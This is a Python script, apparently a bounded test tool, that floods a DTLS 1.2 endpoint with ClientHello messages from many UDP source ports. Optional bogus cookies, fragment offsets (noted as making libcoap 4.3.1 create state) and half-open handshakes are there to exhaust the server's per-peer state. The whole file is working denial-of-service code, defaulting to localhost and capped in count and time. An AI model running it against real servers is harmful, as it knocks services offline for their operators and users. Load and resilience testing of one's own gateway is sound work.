#!/usr/bin/env python3
"""dtls-flood.py: well-formed DTLS 1.2 ClientHellos from many UDP source ports, never
answering (a spoofing sender never could). Bounded in count and time.

  dtls-flood.py --port P [--host 127.0.0.1] [--count 3000] [--rate 1000] [--max-time 30]
                [--cookie HEX] [--per-port 1] [--first-port 20000] [--src 127.0.0.1]
                [--answer]

Each ClientHello goes out from its own socket bound to the next free port (at most
--per-port hellos per port), so the gateway sees as many new peers. --cookie puts a (bogus)
cookie in them, --frag-offset N a fragment offset (libcoap 4.3.1 makes state for those
too). --answer: a sender that can receive at its address (not spoofing) sends
the ClientHello again with the cookie of the HelloVerifyRequest it gets, then goes silent
(a half-open handshake per port). Prints "sent N ports M seconds S" at the end."""
import argparse
import os
import socket
import struct
import sys
import time


def client_hello(seq, cookie, frag_offset=0):
    suites = [0x00A8, 0xC0A8, 0x00AE, 0xC0A4, 0xC02B, 0xC0AE]
    body = b"\xfe\xfd" + os.urandom(32) + b"\x00"
    body += bytes([len(cookie)]) + cookie
    body += struct.pack("!H", 2 * len(suites)) + b"".join(struct.pack("!H", s) for s in suites)
    body += b"\x01\x00"
    # extensions: supported_groups, ec_point_formats, signature_algorithms, EtM, EMS
    ext = struct.pack("!HHH", 10, 4, 2) + struct.pack("!H", 23)
    ext += struct.pack("!HHB", 11, 2, 1) + b"\x00"
    ext += struct.pack("!HHH", 13, 4, 2) + struct.pack("!H", 0x0403)
    ext += struct.pack("!HH", 22, 0) + struct.pack("!HH", 23, 0)
    body += struct.pack("!H", len(ext)) + ext
    hs = struct.pack("!B", 1) + struct.pack("!I", len(body))[1:] + struct.pack("!H", 0)
    hs += struct.pack("!I", frag_offset)[1:] + struct.pack("!I", len(body))[1:] + body
    rec = struct.pack("!BHH", 22, 0xFEFD, 0) + struct.pack("!Q", seq)[2:]
    return rec + struct.pack("!H", len(hs)) + hs


def answer(s, seq, a):
    """wait for a HelloVerifyRequest, send the ClientHello again with its cookie: 1 if sent"""
    s.settimeout(1.0)
    try:
        b = s.recv(2048)
    except OSError:
        return 0
    if len(b) < 28 or b[0] != 22 or b[13] != 3:
        return 0
    # record header 13, handshake header 12, server_version 2: cookie length at 27
    c = b[28:28 + b[27]]
    s.sendto(client_hello(seq + 1, c), (a.host, a.port))
    return 1


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--count", type=int, default=3000)
    ap.add_argument("--rate", type=float, default=1000.0)
    ap.add_argument("--max-time", type=float, default=30.0)
    ap.add_argument("--cookie", default="")
    ap.add_argument("--per-port", type=int, default=1)
    ap.add_argument("--first-port", type=int, default=20000)
    ap.add_argument("--src", default="127.0.0.1")
    ap.add_argument("--answer", action="store_true")
    ap.add_argument("--frag-offset", type=int, default=0)
    a = ap.parse_args()
    cookie = bytes.fromhex(a.cookie)
    count = min(a.count, 200000)
    t0 = time.monotonic()
    sent = ports = answered = 0
    port = a.first_port
    while sent < count and time.monotonic() - t0 < min(a.max_time, 120.0):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.bind((a.src, port))
        except OSError:
            s.close()
            port = port + 1 if port < 65000 else 10000
            continue
        port = port + 1 if port < 65000 else 10000
        ports += 1
        for _ in range(a.per_port):
            if sent >= count:
                break
            try:
                s.sendto(client_hello(sent, cookie, a.frag_offset), (a.host, a.port))
                if a.answer:
                    answered += answer(s, sent, a)
            except OSError:
                pass
            sent += 1
        s.close()
        # pace: sent / rate seconds since the start
        ahead = sent / a.rate - (time.monotonic() - t0)
        if ahead > 0:
            time.sleep(ahead)
    print("sent %d ports %d answered %d seconds %.1f" % (sent, ports, answered,
                                                        time.monotonic() - t0))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
